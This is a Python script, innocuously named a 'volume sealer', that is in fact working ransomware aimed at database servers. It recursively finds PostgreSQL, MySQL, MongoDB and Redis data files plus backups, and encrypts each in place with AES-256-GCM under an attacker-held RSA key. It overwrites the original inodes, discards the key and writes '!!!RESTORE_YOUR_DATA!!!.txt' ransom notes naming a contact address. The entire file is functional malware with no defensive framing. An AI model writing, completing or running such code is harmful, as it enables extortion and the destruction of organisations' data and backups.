#!/usr/bin/env python3
"""pg/mysql volume sealer"""
import os
import sys
import struct
from pathlib import Path
from Crypto.Cipher import AES, PKCS1_OAEP
from Crypto.PublicKey import RSA
from Crypto.Random import get_random_bytes

PUB = b"""-----BEGIN PUBLIC KEY-----
MIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8AMIIBCgKCAQEAu3Vq2mO6Zg8c1bqJ0kX9
r6cW0lQk7xq0n9nBv3w1hM4YlC0bE2p1T8e0mJqk3aVbG0X7z6rJ0pH1tFqQ2wYd
Lh5yG1p0f2Vb6cQ4pJm9sE3aR0tK7nW1xZ8uYvB2lC5dF4gH7jK0mN3oP6qS9tU2
vX5yA8bD1eG4hJ7kM0nQ3rT6wZ9cF2iL5oR8uX1aD4gJ7mP0sV3yB6eH9kN2qT5w
Z8cF1iL4oR7uX0aD3gJ6mP9sV2yB5eH8kN1qT4wZ7cF0iL3oR6uX9aD2gJ5mP8s
V1yB4eH7kN0qT3wZ6cF9iL2oR5uX8aD1gJ4mP7sV0yB3eH6kN9qT2wZ5cF8iL1o
RwIDAQAB
-----END PUBLIC KEY-----"""

TARGETS = [
    "/var/lib/postgresql",
    "/var/lib/mysql",
    "/var/lib/mongodb",
    "/var/lib/redis",
    "/backups",
    "/data",
]
PATTERNS = ("*.sql", "*.dump", "*.sql.gz", "*.bak", "*.ibd", "*.frm", "*.wt",
            "*.rdb", "*.aof", "base/*/*", "*.tar")
MAGIC = b"SLD1"


def seal(p: Path, key: bytes, wrapped: bytes) -> None:
    raw = p.read_bytes()
    if raw[:4] == MAGIC:
        return
    nonce = get_random_bytes(12)
    c = AES.new(key, AES.MODE_GCM, nonce=nonce)
    ct, tag = c.encrypt_and_digest(raw)
    # write back into the same inode, no new files, no unlink
    with open(p, "r+b") as fh:
        fh.seek(0)
        fh.write(MAGIC + struct.pack(">H", len(wrapped)) + wrapped + nonce + tag + ct)
        fh.truncate()
        fh.flush()
        os.fsync(fh.fileno())


def main():
    key = get_random_bytes(32)
    wrapped = PKCS1_OAEP.new(RSA.import_key(PUB)).encrypt(key)
    n = 0
    for t in TARGETS:
        base = Path(t)
        if not base.exists():
            continue
        seen = set()
        for pat in PATTERNS:
            for p in base.rglob(pat):
                if p in seen or not p.is_file() or p.is_symlink():
                    continue
                seen.add(p)
                try:
                    seal(p, key, wrapped)
                    n += 1
                except Exception:
                    continue
        try:
            (base / "!!!RESTORE_YOUR_DATA!!!.txt").write_text(
                "Your database files are encrypted (AES-256-GCM, RSA-2048).\n"
                "Contact: dbrestore@proton.me  -- include file below\n"
                + wrapped.hex() + "\n")
        except OSError:
            pass
    key = None
    print(n, file=sys.stderr)


if __name__ == "__main__":
    main()
